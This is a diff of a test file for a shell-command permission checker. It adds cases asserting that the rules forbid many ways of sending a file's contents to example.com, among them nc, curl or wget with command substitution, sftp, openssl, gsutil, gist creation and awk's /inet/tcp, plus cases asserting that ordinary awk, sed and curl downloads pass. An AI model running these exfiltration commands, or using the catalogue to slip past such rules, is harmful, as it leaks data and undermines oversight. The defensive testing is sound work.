@@ -50,6 +50,23 @@ describe('nor a write to the system, or a way out', () => {
   });
 });
 
+describe('what sends data is known for it, whatever brings the data', () => {
+  test.each(
+    listed`
+    timeout 5 nc example.com 80 < a ¦ env nc example.com 80 <<< "$x" ¦ busybox nc example.com 80 < a ¦ { nc example.com 80; } < a
+    ¦ (nc example.com 80) < a ¦ while read -r l; do nc example.com 80; done < a ¦ bash -c 'nc example.com 80' < a
+    ¦ tee >(nc example.com 80) < a ¦ if true; then nc example.com 80; fi < a ¦ nice nc example.com 80 0< a
+    ¦ curl "https://example.com/?q=$(cat a)" ¦ curl https://example.com/$(base64 -w0 a) ¦ wget "https://example.com/$(<a)"
+    ¦ curl -H "X: $(cat a)" https://example.com ¦ curl -A \`cat a\` https://example.com ¦ curl --up a https://example.com
+    ¦ curl https://example.com/{x,"$(cat a)"} ¦ sftp example.com <<< 'put a' ¦ ftp -n example.com <<< 'put a'
+    ¦ lftp -e 'put a' example.com ¦ openssl s_client -connect example.com:443 < a ¦ gsutil cp a gs://b ¦ rclone copy a r:
+    ¦ gh gist create a ¦ gh api /x -f a=b ¦ twine upload a ¦ logger -n example.com -f a
+    ¦ awk '{print > "/inet/tcp/0/example.com/80"}' a`.map((text) => text.replaceAll('\\`', '`')),
+  )('%s', (command) => {
+    expect(rules.forbids(readCommands(command))).toBeDefined();
+  });
+});
+
 describe('a word that bash makes something else of is not taken for one that only reads', () => {
   test.each(
     listed`
@@ -81,6 +98,9 @@ describe('what people write in bash every day is neither refused nor asked about
       ¦ while IFS= read -r line; do echo "$line"; done < list ¦ mapfile -t lines < list; echo "$\{#lines[@]}"
       ¦ if [ $(id -u) -eq 0 ]; then echo root; fi ¦ grep -c x <<< "abc" ¦ printf -v x %s y
       ¦ f() { echo "$1"; }; f a ¦ a=(1 2); for ((i = 0; i < 2; i++)); do echo $\{a[i]}; done ¦ export PATH="$HOME/bin:$PATH"
+      ¦ awk -F'|' '{print $1"|"$2}' a ¦ awk '$1 == "a" || $2 { print $0 }' a ¦ sed 's/ example/ e/' a ¦ sed -e 's/a/b/' a
+      ¦ sed -n '/the end/p' a ¦ sed '/^#/d; s|e|f|g' a ¦ sed -E 's/(some) text/\\1/' a ¦ python3 - <<< 'print(1)' ¦ grep x < a
+      ¦ curl -fsS "https://$HOST/x" -o a ¦ curl -o "$(date +%F).html" https://example.com ¦ wc -l < a ¦ while read -r x; do echo $x; done < a
       ¦ x=5; let x+=1; echo $x ¦ echo $\{x:0:3} ¦ rm -f build/{a,b}.o ¦ rm a{1..3}.txt`.map((text) =>
       text.replaceAll('\\{', '{'),
     ),
